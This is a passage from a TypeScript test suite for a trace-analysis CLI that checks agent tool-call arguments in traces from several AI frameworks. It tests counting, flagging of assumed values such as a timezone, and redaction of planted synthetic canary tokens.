      // The second step, as ReAct records it: its trajectory repeats the first step's choice (the zone included), then it chooses finish.
      const first = scope.spans.find((s) => s.name === 'Predict.forward')!;
      const second: Span = JSON.parse(JSON.stringify(first)) as Span;
      second.spanId = '5d7f9b1c3e2a4586';
      set(second, 'input.value', { question: 'What is 2 + 2?', trajectory: `[[ ## thought_0 ## ]]\nI need to add.\n\n[[ ## tool_name_0 ## ]]\nadd\n\n[[ ## tool_args_0 ## ]]\n${JSON.stringify(zone)}\n\n[[ ## observation_0 ## ]]\n4` });
      set(second, 'output.value', { next_thought: 'I have the answer.', next_tool_name: 'finish', next_tool_args: {} });
      scope.spans.push(second);
      if (!withToolSpans) scope.spans = scope.spans.filter((s) => !s.name.endsWith('.__call__'));
      const file = join(tmp(), 'dspy.json');
      writeFileSync(file, JSON.stringify(doc));
      return file;
    };
    for (const [withToolSpans, source] of [[true, 'tool-span'], [false, 'model-output']] as const) {
      const db = join(tmp(), 'dspy.duckdb');
      const run = analyzeBin(build(withToolSpans), '--format', 'json', '--db', db);
      expect(run.code, source).toBe(1);
      const out = parseJson(run);
      expect(out.stats.foreign_calls).toBe(2);
      // The zone the first step chose is the model's, though the second step's input repeats it.
      expect(out.findings.filter((f) => !f.rule.startsWith('report_')).map((f) => [f.rule, f.tool, f.key, f.emitter])).toEqual([['assumption_span', 'add', 'timezone', 'openinference']]);
      expect(run.stdout + run.stderr).not.toContain('America/New_York');
      expect(await query(db, 'SELECT tool, call_source FROM tool_calls ORDER BY tool')).toEqual([{ tool: 'add', call_source: source }, { tool: 'finish', call_source: source }]);
    }
  });

  it('DSPy: a zone in add\'s keyword arguments is reported under the tool add and the key timezone (not add.__call__, not kwargs.timezone)', () => {
    plantedZone('openinference-dspy-react-add.json', 'add.__call__', { kwargs: { x: 2, y: 2, timezone: 'America/New_York' } }, 'add');
  });
});

describe('argspan analyze on OpenInference\'s LangChain and LlamaIndex instrumentations (recorded model calls, no tool run)', () => {
  // fixtures/traces/foreign/README.md: one LLM span each; the calls are the model's proposals.
  const cases = {
    'openinference-langchain-tool-calls-model-only.json': { calls: [['add', 'a'], ['add', 'b'], ['multiply', 'a'], ['multiply', 'b']], tool: 'multiply', args: '{"a": 3, "b": 12}' },
    'openinference-llama-index-weather-model-only.json': { calls: [['get_weather', 'location']], tool: 'get_weather', args: '{"location":"San Francisco"}' },
    // (Anthropic: a text block before the tool_use; the arguments as the handler's json.dumps writes them)
    'openinference-llama-index-anthropic-weather-model-only.json': { calls: [['get_weather', 'location']], tool: 'get_weather', args: '{"location": "San Francisco"}' },
  };
  it.each(Object.entries(cases))('%s: each call by tool and key, every value the user\'s, nothing reported', async (file, want) => {
    const db = join(tmp(), 'a.duckdb');
    const run = analyzeBin(join(FOREIGN, file), '--format', 'json', '--reports', '--db', db);
    expect(run.code).toBe(0);
    const out = parseJson(run);
    expect(out.stats.foreign_calls).toBe(new Set(want.calls.map(([tool]) => tool)).size);
    expect(out.findings.map((f) => f.rule)).toEqual(['report_run_summary']);
    expect(await query(db, 'SELECT tool, "key", provenance FROM tool_args ORDER BY tool, "key"')).toEqual(want.calls.map(([tool, key]) => ({ tool, key, provenance: 'user_explicit' })));
  });

  // The fixture with `tool`'s arguments changed in every attribute that holds them (the output message, and LangChain's output.value).
  const planted = (file: string, from: string, to: string) => {
    const doc = JSON.parse(readFileSync(join(FOREIGN, file), 'utf8')) as { resourceSpans: { scopeSpans: { spans: { attributes: { key: string; value: { stringValue?: string } }[] }[] }[] }[] };
    let copies = 0;
    for (const attr of doc.resourceSpans[0]!.scopeSpans[0]!.spans[0]!.attributes) {
      const text = attr.value.stringValue;
      if (text === undefined) continue;
      for (const [a, b] of [[from, to], [JSON.stringify(from).slice(1, -1), JSON.stringify(to).slice(1, -1)]] as const) {
        if (text.includes(a)) {
          attr.value.stringValue = attr.value.stringValue!.split(a).join(b);
          copies++;
        }
      }
    }
    expect(copies).toBeGreaterThan(0);
    const path = join(tmp(), file);
    writeFileSync(path, JSON.stringify(doc));
    return path;
  };
  const TOKEN = 'ghp_' + 'C4NARYl4ngCHA1Nc4naryLL4MAINDEXtr4cexy';
  it.each(Object.entries(cases))('%s: a zone the user never gave, and a token in the arguments, are each one finding by tool and key, never printed', (file, want) => {
    const zone = want.args.replace(/\}$/, want.args.includes(', ') ? ', "timezone": "America/New_York"}' : ',"timezone":"America/New_York"}');
    const token = want.args.replace(/(\d+|San Francisco)"?\}$/, (m) => (m.startsWith('San') ? `San Francisco ${TOKEN}"}` : `"${m.slice(0, -1)} ${TOKEN}"}`));
    for (const [args, rule, key] of [[zone, 'assumption_span', 'timezone'], [token, 'credential_in_attribute', want.tool === 'multiply' ? 'b' : 'location']] as const) {
      const path = planted(file, want.args, args);
      const run = analyzeBin(path, '--format', 'json');
      expect(run.code, rule).toBe(1);
      expect(parseJson(run).findings.filter((f) => !f.rule.startsWith('report_')).map((f) => [f.rule, f.tool, f.key, f.emitter])).toEqual([[rule, want.tool, key, 'openinference']]);
      for (const format of ['table', 'json', 'sarif', 'junit', 'html']) {
        const out = analyzeBin(path, '--format', format);
        for (const value of ['America/New_York', TOKEN]) expect(out.stdout + out.stderr, `${format}: ${value}`).not.toContain(value);
      }
    }
  });
  it('LangChain: the calls of the LLMResult in output.value are the output messages\' (not counted twice); without those messages they are read from it', () => {
    const file = 'openinference-langchain-tool-calls-model-only.json';
    const doc = JSON.parse(readFileSync(join(FOREIGN, file), 'utf8')) as { resourceSpans: { scopeSpans: { spans: { attributes: { key: string; value: { stringValue?: string } }[] }[] }[] }[] };
    const span = doc.resourceSpans[0]!.scopeSpans[0]!.spans[0]!;
    span.attributes = span.attributes.filter((a) => !a.key.startsWith('llm.output_messages.'));
    for (const a of span.attributes) if (a.key === 'output.value') a.value.stringValue = a.value.stringValue!.split('"b": 12').join(`"b": "12 ${TOKEN}"`).split('\\"b\\": 12').join(`\\"b\\": \\"12 ${TOKEN}\\"`);
    const path = join(tmp(), file);
    writeFileSync(path, JSON.stringify(doc));
    expectOnlyFinding(path, ['credential_in_attribute', 'multiply', 'b', 'openinference'], TOKEN, 2);
  });
  it('Anthropic: the tool_use blocks of the Message in output.value are the output messages\' calls, so a token in an argument is one finding, by argument', () => {
    const file = 'openinference-anthropic-timezone-model-only.json';
    const doc = JSON.parse(readFileSync(join(FOREIGN, file), 'utf8')) as { resourceSpans: { scopeSpans: { spans: { attributes: { key: string; value: { stringValue?: string } }[] }[] }[] }[] };
    const holding = doc.resourceSpans[0]!.scopeSpans[0]!.spans[0]!.attributes.filter((a) => a.value.stringValue?.includes('New York, NY'));
    expect(holding.map((a) => a.key)).toEqual(['output.value', 'llm.output_messages.0.message.tool_calls.0.tool_call.function.arguments', 'llm.output_messages.0.message.contents.1.tool_call.function.arguments']);
    for (const a of holding) a.value.stringValue = a.value.stringValue!.split('New York, NY').join(`New York, NY ${TOKEN}`);
    const path = join(tmp(), file);
    writeFileSync(path, JSON.stringify(doc));
    const run = analyzeBin(path, '--format', 'json');
    expect(run.code).toBe(1);
    const out = parseJson(run);
    expect(out.stats.foreign_calls).toBe(2);
    expect(out.findings.filter((f) => !f.rule.startsWith('report_')).map((f) => [f.rule, f.tool, f.key]).sort()).toEqual([['assumption_span', 'get_time', 'timezone'], ['credential_in_attribute', 'get_weather', 'location']]);
    expect(run.stdout + run.stderr).not.toContain(TOKEN);
  });
});

describe('argspan analyze on OpenInference\'s OpenAI instrumentation (Chat Completions and the Responses API, recorded model calls)', () => {
  // fixtures/traces/foreign/README.md: a ChatCompletion span with two proposed calls (its history holds two earlier ones), and
  // two Response spans, the first proposing get_weather (an `output[]` function_call item), the second sending its
  // function_call_output. Each call is in the output messages, and again in output.value (the ChatCompletion, the Response).
  const CHAT = 'openinference-openai-chat-completions-tool-calls-model-only.json';
  const RESPONSES = 'openinference-openai-responses-function-call.json';
  type Attr = { key: string; value: { stringValue?: string } };
  type Doc = { resourceSpans: { scopeSpans: { spans: { spanId: string; attributes: Attr[] }[] }[] }[] };
  const load = (file: string) => JSON.parse(readFileSync(join(FOREIGN, file), 'utf8')) as Doc;
  const spansOf = (doc: Doc) => doc.resourceSpans[0]!.scopeSpans[0]!.spans;
  const save = (doc: Doc, name: string) => {
    const path = join(tmp(), name);
    writeFileSync(path, JSON.stringify(doc));
    return path;
  };
  type Change = (tool: string, args: Record<string, unknown>) => Record<string, unknown>;
  const rewrite = (text: string, tool: string, change: Change) => {
    const args = change(tool, JSON.parse(text) as Record<string, unknown>);
    // (the model's own separators kept: `": "` in these Chat Completions, compact in the Responses API)
    return text.includes('": ') ? pythonJson(args) : JSON.stringify(args);
  };
  /**
   * Every record of the calls the model proposed changed: the flattened output messages, by the
   * call's name beside them, and the calls inside output.value (`choices[].message.tool_calls`,
   * `output[]` function_call items). A request's history is left as it is (the Chat Completions
   * span's history holds earlier calls, made in no span of this trace).
   */
  const plant = (doc: Doc, change: Change) => {
    let copies = 0;
    for (const span of spansOf(doc)) {
      const byKey = new Map(span.attributes.map((a) => [a.key, a]));
      for (const a of span.attributes) {
        const text = a.value.stringValue;
        if (text === undefined) continue;
        const flat = /^(llm\.output_messages\.\d+\.message\.tool_calls\.\d+\.tool_call\.)function\.arguments$/.exec(a.key);
        if (flat) {
          a.value.stringValue = rewrite(text, byKey.get(`${flat[1]}function.name`)!.value.stringValue!, change);
          copies++;
          continue;
        }
        if (a.key !== 'output.value') continue;
        const value = JSON.parse(text) as { choices?: { message: { tool_calls?: { function: Record<string, unknown> }[] } }[]; output?: Record<string, unknown>[] };
        const calls = [...(value.choices ?? []).flatMap((c) => (c.message.tool_calls ?? []).map((t) => t.function)), ...(value.output ?? []).filter((i) => i.type === 'function_call')];
        for (const c of calls) c.arguments = rewrite(c.arguments as string, c.name as string, change);
        a.value.stringValue = JSON.stringify(value);
        copies += calls.length;
      }
    }
    expect(copies).toBeGreaterThan(0);
    return doc;
  };
  // Python's json.dumps (OpenInference's safe_json_dumps of the request), `", "` and `": "` separators.
  const pythonJson = (v: unknown): string =>
    Array.isArray(v) ? `[${v.map(pythonJson).join(', ')}]` : v !== null && typeof v === 'object' ? `{${Object.entries(v).map(([k, x]) => `${JSON.stringify(k)}: ${pythonJson(x)}`).join(', ')}}` : JSON.stringify(v);
  /**
   * The Responses exchange sent as the whole conversation instead of `previous_response_id` (OpenAI's
   * documented loop, and openinference's `examples/responses_with_function_calling.py`): the second
   * request's input repeats the system and user messages and the model's function_call item (as the
   * SDK dumps a `ResponseFunctionToolCall`) before its output, in input.value and the input messages.
   */
  const fullHistory = (doc: Doc) => {
    const [first, second] = spansOf(doc);
    const get = (span: typeof first, key: string) => span!.attributes.find((a) => a.key === key)!.value.stringValue!;
    const request = JSON.parse(get(first, 'input.value')) as { input: unknown[] };
    const item = (JSON.parse(get(first, 'output.value')) as { output: Record<string, unknown>[] }).output[0]!;
    const call = { arguments: item.arguments, call_id: item.call_id, name: item.name, type: item.type, id: item.id, status: item.status };
    const next = JSON.parse(get(second, 'input.value')) as { input: unknown[]; previous_response_id?: string };
    const input = [...request.input, call, ...next.input];
    delete next.previous_response_id;
    const set = (key: string, text: string) => (second!.attributes.find((a) => a.key === key)!.value.stringValue = text);
    set('input.value', pythonJson({ ...next, input }));
    const invocation = JSON.parse(get(second, 'llm.invocation_parameters')) as Record<string, unknown>;
    delete invocation.previous_response_id;
    set('llm.invocation_parameters', pythonJson(invocation));
    // The instrumentation numbers input items from 1: system, user, the call (an assistant message), the output (a tool message).
    const tool = second!.attributes.filter((a) => a.key.startsWith('llm.input_messages.1.'));
    second!.attributes = second!.attributes.filter((a) => !a.key.startsWith('llm.input_messages.'));
    const history = first!.attributes.filter((a) => a.key.startsWith('llm.input_messages.')).map((a) => ({ key: a.key, value: { ...a.value } }));
    const at = (i: number, field: string, value: string): Attr => ({ key: `llm.input_messages.${i}.message.${field}`, value: { stringValue: value } });
    second!.attributes.push(...history, at(3, 'role', 'assistant'), at(3, 'tool_calls.0.tool_call.id', call.call_id as string), at(3, 'tool_calls.0.tool_call.function.name', call.name as string), at(3, 'tool_calls.0.tool_call.function.arguments', call.arguments as string));
    second!.attributes.push(...tool.map((a) => ({ key: a.key.replace('llm.input_messages.1.', 'llm.input_messages.4.'), value: a.value })));
    return doc;
  };
  /**
   * The Chat Completions span followed by the next request, which sends the conversation again with
   * the model's two calls and their results (as a tool loop does): its input.value the request body,
   * its input messages the same, numbered on. The next request's own output is left out.
   */
  const nextChatRequest = (doc: Doc) => {
    const first = spansOf(doc)[0]!;
    const get = (key: string) => first.attributes.find((a) => a.key === key)!.value.stringValue!;
    const request = JSON.parse(get('input.value')) as { messages: unknown[] };
    const message = (JSON.parse(get('output.value')) as { choices: { message: { role: string; content: null; tool_calls: { id: string; type: string; function: { name: string; arguments: string } }[] } }[] }).choices[0]!.message;
    const calls = message.tool_calls.map((c) => ({ id: c.id, type: c.type, function: { name: c.function.name, arguments: c.function.arguments } }));
    const results = calls.map((c) => ({ role: 'tool', tool_call_id: c.id, content: c.function.name === 'get_weather' ? 'sunny' : 'large' }));
    const messages = [...request.messages, { role: 'assistant', tool_calls: calls }, ...results];
    const n = request.messages.length;
    const at = (i: number, field: string, value: string): Attr => ({ key: `llm.input_messages.${i}.message.${field}`, value: { stringValue: value } });
    const second = {
      ...first,
      spanId: '7a1c3e5b9d2f4a61',
      attributes: [
        ...first.attributes.filter((a) => !a.key.startsWith('llm.output_messages.') && a.key !== 'output.value' && a.key !== 'input.value'),
        { key: 'input.value', value: { stringValue: pythonJson({ ...request, messages }) } },
        at(n, 'role', 'assistant'),
        ...calls.flatMap((c, j) => [at(n, `tool_calls.${j}.tool_call.id`, c.id), at(n, `tool_calls.${j}.tool_call.function.name`, c.function.name), at(n, `tool_calls.${j}.tool_call.function.arguments`, c.function.arguments)]),
        ...results.flatMap((r, j) => [at(n + 1 + j, 'role', 'tool'), at(n + 1 + j, 'tool_call_id', r.tool_call_id), at(n + 1 + j, 'content', r.content)]),
      ],
    };
    spansOf(doc).push(second);
    return doc;
  };
  const TOKEN = 'ghp_' + 'C4NARYopenAIresp0nsesCHATc4naryxy0penAI';
  const findings = (run: ReturnType<typeof analyzeBin>) => parseJson(run).findings.filter((f) => !f.rule.startsWith('report_')).map((f) => [f.rule, f.tool, f.key, f.emitter]);
  /** Where the token is, as `{span} {attribute}`. */
  const holding = (doc: Doc) => spansOf(doc).flatMap((s) => s.attributes.filter((a) => a.value.stringValue?.includes(TOKEN)).map((a) => `${s.spanId} ${a.key}`));
  /** Chat Completions: a zone the user never gave in get_weather's call, a token in get_population's. */
  const zoneAndToken: Change = (tool, args) => (tool === 'get_weather' ? { ...args, timezone: 'America/Los_Angeles' } : { city: `San Francisco ${TOKEN}` });
  const CHAT_FINDINGS = [['assumption_span', 'get_weather', 'timezone', 'openinference'], ['credential_in_attribute', 'get_population', 'city', 'openinference']];
  /** `calls` calls and exactly `want` (rule, tool, key, emitter), the planted zone and token printed by no format. */
  const reportedOnce = (path: string, calls: number, want: string[][]) => {
    const run = analyzeBin(path, '--format', 'json');
    expect(run.code).toBe(1);
    expect(parseJson(run).stats.foreign_calls).toBe(calls);
    expect(findings(run).sort()).toEqual(want);
    for (const format of ['table', 'json', 'sarif', 'junit', 'html']) {
      const out = analyzeBin(path, '--format', format);
      for (const value of ['America/Los_Angeles', TOKEN]) expect(out.stdout + out.stderr, `${format}: ${value}`).not.toContain(value);
    }
  };

  const cases = {
    [CHAT]: { calls: [['get_population', 'city'], ['get_weather', 'city']], spans: 1 },
    [RESPONSES]: { calls: [['get_weather', 'location']], spans: 2 },
  };
  it.each(Object.entries(cases))('%s: each call once, by tool and key, every value the user\'s, nothing reported', async (file, want) => {
    const db = join(tmp(), 'a.duckdb');
    const run = analyzeBin(join(FOREIGN, file), '--format', 'json', '--reports', '--db', db);
    expect(run.code).toBe(0);
    const out = parseJson(run);
    expect(out.stats.spans).toBe(want.spans);
    expect(out.stats.foreign_calls).toBe(want.calls.length);
    expect(out.findings.map((f) => f.rule)).toEqual(['report_run_summary']);
    expect(await query(db, 'SELECT tool, "key", provenance FROM tool_args ORDER BY tool, "key"')).toEqual(want.calls.map(([tool, key]) => ({ tool, key, provenance: 'user_explicit' })));
    expect(await query(db, 'SELECT DISTINCT call_source FROM tool_calls')).toEqual([{ call_source: 'model-output' }]);
  });

  it('Chat Completions: a zone the user never gave (get_weather) and a token (get_population) are each one finding by tool and key, not again by output.value; never printed', () => {
    const doc = plant(load(CHAT), zoneAndToken);
    reportedOnce(save(doc, CHAT), 2, CHAT_FINDINGS);
  });

  it('Chat Completions, the next request sending the calls back: its messages (input.value, input messages) hold copies, not calls; the token still one finding', () => {
    const doc = nextChatRequest(plant(load(CHAT), zoneAndToken));
    expect(holding(doc)).toEqual([
      '7a1c3e5b9d2f4a60 output.value',
      '7a1c3e5b9d2f4a60 llm.output_messages.0.message.tool_calls.1.tool_call.function.arguments',
      '7a1c3e5b9d2f4a61 input.value',
      '7a1c3e5b9d2f4a61 llm.input_messages.5.message.tool_calls.1.tool_call.function.arguments',
    ]);
    reportedOnce(save(doc, CHAT), 2, CHAT_FINDINGS);
  });

  it('Responses API: the function_call item of the Response in output.value is the output message\'s call, so a token in its arguments is one finding, by argument', () => {
    const doc = plant(load(RESPONSES), (_tool, args) => ({ ...args, location: `San Francisco ${TOKEN}` }));
    expect(holding(doc)).toEqual(['8b2d4f6a0c1e3a51 output.value', '8b2d4f6a0c1e3a51 llm.output_messages.0.message.tool_calls.0.tool_call.function.arguments']);
    const run = analyzeBin(save(doc, RESPONSES), '--format', 'json');
    expect(run.code).toBe(1);
    expect(parseJson(run).stats.foreign_calls).toBe(1);
    expect(findings(run)).toEqual([['credential_in_attribute', 'get_weather', 'location', 'openinference']]);
    expect(run.stdout + run.stderr).not.toContain(TOKEN);
  });

  it('Responses API sent as the whole conversation: the next request\'s function_call item (input.value, input messages) is a copy of the call, not a call; a zone and a token each one finding', () => {
    const doc = fullHistory(plant(load(RESPONSES), (_tool, args) => ({ ...args, location: `San Francisco ${TOKEN}`, timezone: 'America/Los_Angeles' })));
    expect(holding(doc)).toEqual([
      '8b2d4f6a0c1e3a51 output.value',
      '8b2d4f6a0c1e3a51 llm.output_messages.0.message.tool_calls.0.tool_call.function.arguments',
      '8b2d4f6a0c1e3a52 input.value',
      '8b2d4f6a0c1e3a52 llm.input_messages.3.message.tool_calls.0.tool_call.function.arguments',
    ]);
    reportedOnce(save(doc, RESPONSES), 1, [['assumption_span', 'get_weather', 'timezone', 'openinference'], ['credential_in_attribute', 'get_weather', 'location', 'openinference']]);
  });
});

describe('argspan analyze on the AI SDK\'s spans with OpenInference\'s Vercel span processor\'s attributes added', () => {
  // `@arizeai/openinference-vercel`'s OpenInferenceSpanProcessor writes OpenInference attributes onto the AI SDK's own `ai.*`
  // spans (Arize-ai/openinference js/packages/openinference-vercel/src/utils.ts @ 74ae809e): a tool call's span becomes a TOOL
  // span (`tool_call.id`, `tool.name`, the arguments in `tool.parameters` and `input.value`, the result in `output.value`),
  // a model step an LLM span (`ai.response.toolCalls` as `llm.output_messages.0.message.tool_calls.{j}.*`, and as `output.value`
  // when the step wrote no text; `ai.prompt.messages` as `input.value` and `llm.input_messages.*`, the history's calls
  // among them). Its own captured spans (test/__fixtures__/v6-spans) hold no tool call, so the layer is written here, per that
  // source, onto the recorded AI SDK snapshots. Both readers then see each record: each call must still be counted once.
  type Attr = { key: string; value: { stringValue?: string } };
  type Doc = { resourceSpans: { scopeSpans: { spans: { name: string; attributes: Attr[] }[] }[] }[] };
  const withProcessor = (file: string, plant?: [from: string, to: string]) => {
    const doc = JSON.parse(readFileSync(join(FOREIGN, file), 'utf8')) as Doc;
    for (const span of doc.resourceSpans.flatMap((r) => r.scopeSpans.flatMap((s) => s.spans))) {
      if (plant) {
        const [from, to] = plant;
        for (const a of span.attributes) for (const [x, y] of [[from, to], [JSON.stringify(from).slice(1, -1), JSON.stringify(to).slice(1, -1)]]) a.value.stringValue = a.value.stringValue?.split(x!).join(y!);
      }
      const get = (key: string) => span.attributes.find((a) => a.key === key)?.value.stringValue;
      const args = (c: Record<string, unknown>) => {
        const v = c.args ?? c.input;
        return typeof v === 'string' ? v : JSON.stringify(v);
      };
      const add = (key: string, value: string | undefined) => {
        if (value !== undefined) span.attributes.push({ key, value: { stringValue: value } });
      };
      const addCall = (prefix: string, c: Record<string, unknown>) => {
        add(`${prefix}id`, c.toolCallId as string);
        add(`${prefix}function.name`, c.toolName as string);
        add(`${prefix}function.arguments`, args(c));
      };
      if (span.name.startsWith('ai.toolCall')) {
        for (const [key, from] of [['tool_call.id', 'ai.toolCall.id'], ['tool.name', 'ai.toolCall.name'], ['tool.parameters', 'ai.toolCall.args'], ['input.value', 'ai.toolCall.args'], ['output.value', 'ai.toolCall.result']]) add(key!, get(from!));
        add('openinference.span.kind', 'TOOL');
        continue;
      }
      add('openinference.span.kind', /\.do(Stream|Generate)$/.test(span.name) ? 'LLM' : 'AGENT');
      const calls = get('ai.response.toolCalls');
      (JSON.parse(calls ?? '[]') as Record<string, unknown>[]).forEach((c, j) => {
        addCall(`llm.output_messages.0.message.tool_calls.${j}.tool_call.`, c);
      });
      add('output.value', calls !== undefined && !get('ai.response.text') ? calls : get('ai.response.text'));
      const messages = get('ai.prompt.messages');
      add('input.value', messages ?? get('ai.prompt'));
      (JSON.parse(messages ?? '[]') as { role: string; content: string | Record<string, unknown>[] }[]).forEach((m, i) => {
        const p = `llm.input_messages.${i}.message.`;
        add(`${p}role`, m.role);
        if (typeof m.content === 'string') add(`${p}content`, m.content);
        else m.content.forEach((part, k) => {
          if (part.type === 'text') add(`${p}contents.${k}.message_content.text`, part.text as string);
          if (part.type === 'tool-call') addCall(`${p}tool_calls.${k}.tool_call.`, part);
          if (part.type === 'tool-result') {
            add(`${p}tool_call_id`, part.toolCallId as string);
            add(`${p}content`, JSON.stringify(part.output ?? part.result));
          }
        });
      });
    }
    const path = join(tmp(), file);
    writeFileSync(path, JSON.stringify(doc));
    return path;
  };
  const TOKEN = 'ghp_' + 'C4NARYvercelOPENINFERENCEprocess0rxyzAb';
  it.each(['vercel-ai-legacy-v4-streamtext-tool.json', 'vercel-ai-legacy-otel-v7-streamtext-tool.json'])('%s: one call, as the AI SDK\'s (not again as an OpenInference TOOL span or LLM proposal); a token in its argument one finding, by argument', (file) => {
    const clean = analyzeBin(withProcessor(file), '--format', 'json');
    expect(clean.code).toBe(0);
    expect(parseJson(clean).stats.foreign_calls).toBe(1);
    const path = withProcessor(file, ['"value":"value"', `"value":"value ${TOKEN}"`]);
    // (the argument in the tool span and the model's output, and the OpenInference copies of each: at least 9 records)
    expect(readFileSync(path, 'utf8').split(TOKEN).length - 1).toBeGreaterThanOrEqual(9);
    const run = analyzeBin(path, '--format', 'json');
    expect(run.code).toBe(1);
    expect(parseJson(run).stats.foreign_calls).toBe(1);
    expect(parseJson(run).findings.filter((f) => !f.rule.startsWith('report_')).map((f) => [f.rule, f.tool, f.key, f.emitter])).toEqual([['credential_in_attribute', 'tool1', 'value', 'vercel-ai']]);
    expect(run.stdout + run.stderr).not.toContain(TOKEN);
  });
});

describe('argspan analyze on OpenInference\'s JS OpenAI instrumentation (runTools: three model calls, the tools run by the SDK)', () => {
  // fixtures/traces/foreign/README.md: the instrumentation's own snapshot. The model asks for the user's location, then the
  // weather there: "Boston" is the first tool's result (a tool message of the next request), not the user's words.
  const FILE = 'openinference-js-openai-runtools-weather.json';
  it('each call once, by tool and key: the location the first tool returned, nothing reported', async () => {
    const db = join(tmp(), 'a.duckdb');
    const run = analyzeBin(join(FOREIGN, FILE), '--format', 'json', '--reports', '--db', db);
    expect(run.code).toBe(0);
    expect(parseJson(run).findings.filter((f) => f.severity !== 'info')).toEqual([]);
    expect(await query(db, 'SELECT tool, call_id, call_source FROM tool_calls ORDER BY tool')).toEqual([
      { tool: 'getCurrentLocation', call_id: 'call_5ERYvu4iTGSvDlcDQjDP3g3J', call_source: 'model-output' },
      { tool: 'getWeather', call_id: 'call_0LCdYLkdRUt3rV3dawoIFHBf', call_source: 'model-output' },
    ]);
    expect(await query(db, 'SELECT tool, "key", provenance FROM tool_args ORDER BY tool, "key"')).toEqual([
      { tool: 'getCurrentLocation', key: '$', provenance: 'model_inferred' },
      { tool: 'getWeather', key: 'location', provenance: 'context_retrieved' },
    ]);
  });

  it('getCurrentLocation called with no arguments: the reports name no invented value and count no argument for it', () => {
    const out = parseJson(analyzeBin(join(FOREIGN, FILE), '--format', 'json', '--reports'));
    expect(out.findings.filter((f) => f.rule === 'report_invented_fields_by_turn')).toEqual([]);
    expect(out.findings.filter((f) => f.rule === 'report_run_summary').map((f) => f.message)).toEqual([expect.stringMatching(/: 2 tool call\(s\), 1 argument\(s\), 0 model-inferred,/)]);
  });

  // getWeather's arguments changed in every attribute that holds them: the output message and output.value of the model call
  // that asked for it, and the next request's history (its input messages, and input.value: the request as sent).
  const planted = (to: string) => {
    const doc = JSON.parse(readFileSync(join(FOREIGN, FILE), 'utf8')) as { resourceSpans: { scopeSpans: { spans: { attributes: { key: string; value: { stringValue?: string } }[] }[] }[] }[] };
    const from = '"location": "Boston"';
    const holding: string[] = [];
    for (const [i, span] of doc.resourceSpans[0]!.scopeSpans[0]!.spans.entries()) {
      for (const attr of span.attributes) {
        for (const [a, b] of [[from, to], [JSON.stringify(from).slice(1, -1), JSON.stringify(to).slice(1, -1)]] as const) {
          if (attr.value.stringValue?.includes(a)) {
            attr.value.stringValue = attr.value.stringValue.split(a).join(b);
            holding.push(`${i} ${attr.key}`);
          }
        }
      }
    }
    expect(holding).toEqual([
      '1 llm.output_messages.0.message.tool_calls.0.tool_call.function.arguments',
      '1 output.value',
      '2 input.value',
      '2 llm.input_messages.3.message.tool_calls.0.tool_call.function.arguments',
    ]);
    const path = join(tmp(), FILE);
    writeFileSync(path, JSON.stringify(doc));
    return path;
  };
  const TOKEN = 'ghp_' + 'C4NARYj50pen4Iruntoolsc4naryxyzwvut12';
  it('a zone the user never gave, and a token in the location, are each one finding by tool and key (not again for the copy in the next request\'s input.value), never printed', () => {
    for (const [to, rule, key] of [['"location": "Boston", "timezone": "America/New_York"', 'assumption_span', 'timezone'], [`"location": "Boston ${TOKEN}"`, 'credential_in_attribute', 'location']] as const) {
      const path = planted(to);
      const run = analyzeBin(path, '--format', 'json');
      expect(run.code, rule).toBe(1);
      expect(parseJson(run).findings.filter((f) => !f.rule.startsWith('report_')).map((f) => [f.rule, f.tool, f.key, f.emitter])).toEqual([[rule, 'getWeather', key, 'openinference']]);
      for (const format of ['table', 'json', 'sarif', 'junit', 'html']) {
        const out = analyzeBin(path, '--format', format);
        for (const value of ['America/New_York', TOKEN]) expect(out.stdout + out.stderr, `${format}: ${value}`).not.toContain(value);
      }
    }
  });
});

describe('argspan analyze on Microsoft Agent Framework\'s spans (Python, agent_framework.observability, sensitive data on)', () => {
  // fixtures/traces/foreign/README.md: its own test's run (RECON); the model's call is a tool_call part whose arguments are
  // the JSON string the chat client got, so each copy in a message list is a JSON string inside JSON.
  const FILE = 'agent-framework-python-get-weather.json';
  type Doc = { resourceSpans: { scopeSpans: { spans: { name: string; attributes: { key: string; value: { stringValue?: string } }[] }[] }[] }[] };
  const load = () => JSON.parse(readFileSync(join(FOREIGN, FILE), 'utf8')) as Doc;
  const spansOf = (doc: Doc) => doc.resourceSpans[0]!.scopeSpans[0]!.spans;
  const write = (doc: Doc) => {
    const path = join(tmp(), FILE);
    writeFileSync(path, JSON.stringify(doc));
    return path;
  };
  /** The fixture with get_weather's arguments `from` → `to` in every attribute that holds them, at each level of encoding; `keep` the spans to keep. */
  const planted = (to: string, keep: (name: string) => boolean = () => true) => {
    const doc = load();
    const from = '"location": "Seattle"';
    const holding: string[] = [];
    doc.resourceSpans[0]!.scopeSpans[0]!.spans = spansOf(doc).filter((s) => keep(s.name));
    const once = (t: string) => JSON.stringify(t).slice(1, -1);
    for (const span of spansOf(doc)) {
      for (const attr of span.attributes) {
        for (const [a, b] of [[from, to], [once(from), once(to)], [once(once(from)), once(once(to))]] as const) {
          if (attr.value.stringValue?.includes(a)) {
            attr.value.stringValue = attr.value.stringValue.split(a).join(b);
            holding.push(`${span.name} ${attr.key}`);
          }
        }
      }
    }
    return { path: write(doc), holding };
  };

  it('the call once, under its id, recorded by its tool span: the city the user named, nothing reported', async () => {
    const db = join(tmp(), 'a.duckdb');
    const run = analyzeBin(join(FOREIGN, FILE), '--format', 'json', '--reports', '--db', db);
    expect(run.code).toBe(0);
    expect(parseJson(run).findings.map((f) => [f.rule, f.emitter])).toEqual([['report_run_summary', 'genai-semconv']]);
    expect(await query(db, 'SELECT tool, call_id, call_source, emitter, turn_span_id FROM tool_calls')).toEqual([
      { tool: 'get_weather', call_id: 'call_123', call_source: 'tool-span', emitter: 'genai-semconv', turn_span_id: 'a1b2c3d4e5f60718' },
    ]);
    expect(await query(db, 'SELECT tool, "key", provenance FROM tool_args')).toEqual([{ tool: 'get_weather', key: 'location', provenance: 'user_explicit' }]);
  });

  const TOKEN = 'ghp_' + 'C4NARYaf0agentfrmwrkc4naryxyzwvut1234';
  it.each([
    ['a zone the user never gave', '"location": "Seattle", "timezone": "America/Los_Angeles"', 'assumption_span', 'timezone'],
    ['a token in the location', `"location": "Seattle ${TOKEN}"`, 'credential_in_attribute', 'location'],
  ] as const)('%s: one finding by tool and key (not again for the copies in the agent\'s and the next request\'s messages), never printed', (_, to, rule, key) => {
    const { path, holding } = planted(to);
    // (the tool span's JSON; the model's proposal and its two copies, each a JSON string inside a message list)
